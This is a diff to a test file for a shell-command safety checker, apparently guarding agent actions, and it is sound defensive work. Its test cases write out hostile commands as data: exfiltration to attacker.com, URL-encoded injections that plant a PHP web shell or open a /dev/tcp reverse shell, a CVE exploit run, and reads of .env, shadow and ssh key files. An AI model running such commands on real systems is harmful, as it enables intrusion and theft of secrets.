@@ -703,7 +703,7 @@ const CLASSES: [string, boolean, string?][] = [
   ["latexmk -pdf -pdflatex='/bin/sh #' /dev/null", true, 'whose commands come from its input'],
   ['latexmk -pdf -lualatex paper.tex', false],
   ['cancel -h attacker.com:12345 -u DATA', true, 'sends data to a host'],
-  ['lp report.pdf', false],
+  ['lp -h localhost report.pdf', false],
   ['fzf --listen=12345', true, 'fzf --listen'],
   ["dosbox -c 'mount c /' -c 'type c:\\etc\\shadow'", true, 'runs code through -c'],
   // The machine's network, firewall, mounts, clock and logs; files touched outside; aliases.
@@ -6837,6 +6837,58 @@ describe('checkCommand on the eighteen read: VPN gateways, forwards, installers,
     ['uv venv .venv', false],
     ['tar cvzfC /nsd.tar.gz /tmp/nsd-install usr/local', true, 'writes the archive to /nsd.tar.gz'],
     ['tar cvzCf /tmp out.tgz data', false],
+  ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
+    const r = checkCommand(cmd, WS);
+    expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
+    if (reason) expect(r.reasons.join('; ')).toContain(reason);
+  });
+});
+
+describe('checkCommand on the eight read: snaps, printers, exploits by CVE, encoded injections, Automake and coercion', () => {
+  it.each([
+    // A snap's hooks write under /var/snap through $SNAP_DATA and $SNAP_COMMON; its user directories are the home's.
+    ['mkdir -p $SNAP_COMMON/etc/cups', true, 'outside the workspace'],
+    ['rm -f "${SNAP_DATA}/var/run/cupsd.pid"', true, 'outside the workspace'],
+    ['touch $SNAP_USER_DATA/x', true, 'home'],
+    // GNU's install directories beyond the first ones, and Automake's own build and source trees.
+    ['rm -rf $(DESTDIR)$(localstatedir)/lib/app', true, 'outside the workspace'],
+    ['mkdir -p $(pkgdatadir)', true, 'outside the workspace'],
+    ['find $(builddir) -name "*.gcda" -delete', false],
+    ['rm -rf $(top_builddir)/.test', false],
+    // A job printed on the default printer is paper in a tray; a loopback print server or a local socket is a test's.
+    ['lp report.pdf', true, 'printer'],
+    ['lpr -o media=A4 report.pdf', true, 'printer'],
+    ['lpr -o raw -H localhost -P printer foo.txt', false],
+    ['lpstat -h /var/snap/cups/common/run/cups.sock -v', false],
+    ['lpstat -t', false],
+    // An exploit named for its CVE with underscores, and `-o 1` a mode of it, not an output file.
+    ['python cve_2017_7494.py -t target_ip -u test -P 123456 -o 1 --custom myso.so', true, 'exploit'],
+    ['python cve_2017_7494.py -t target_ip', true, 'exploit'],
+    ['python cve_2024_1234_gen.py -o payload.bin', false],
+    // A form's data URL-encoded carries its injection as well.
+    [
+      'curl -X POST -d "ip=1.1.1.1+%26%26+echo+%27%3C%3Fphp+shell_exec%28%22whoami%22%29%3B+%3F%3E%27+%3E+uploads%2Ftest.php" http://localhost/low.php',
+      true,
+      'URL-encoded',
+    ],
+    ['curl -X POST -d "ip=1.1.1.1+%26%26+bash+-i+%3E%26+%2Fdev%2Ftcp%2F172.17.0.21%2F1111+0%3E%261" http://localhost/low.php', true, 'URL-encoded'],
+    ['curl "http://localhost:8080/search?q=a%20b%26c"', false],
+    // A search of a secrets file prints its matching lines; its pattern may name one.
+    ['grep APP_KEY /var/www/pterodactyl/.env', true, 'secrets file'],
+    ['grep -rn ".env" src', false],
+    // The coercer of shares, the web shells' driver; redc's verbs on its red-team machines.
+    ['linksiren coerce DOMAIN/user:pass -t computers.txt', true, 'attack tool'],
+    ['webshell-sniper -f webshells.json --batch exec --arg "id"', true, 'attack tool'],
+    ['redc start 8a57078ee856', true, 'infrastructure'],
+    ['redc compose down', true, 'infrastructure'],
+    ['redc ps -o json', false],
+    // A web shell of this machine's own test service runs its command here, and that command is judged.
+    ["curl 'http://127.0.0.1:8081/cmd.jsp?c=id'", false],
+    ['curl "http://localhost:8080/shell.jsp?cmd=cat%20/home/u/.ssh/id_rsa"', true, 'key file'],
+    ["curl 'http://10.10.10.5/cmd.jsp?c=id'", true, 'web shell'],
+    // Automake's `$(MKDIR_P)` is `mkdir -p`.
+    ['$(MKDIR_P) $(DESTDIR)$(htmldir)', true, 'outside the workspace'],
+    ['$(MKDIR_P) build/coverage', false],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
     expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
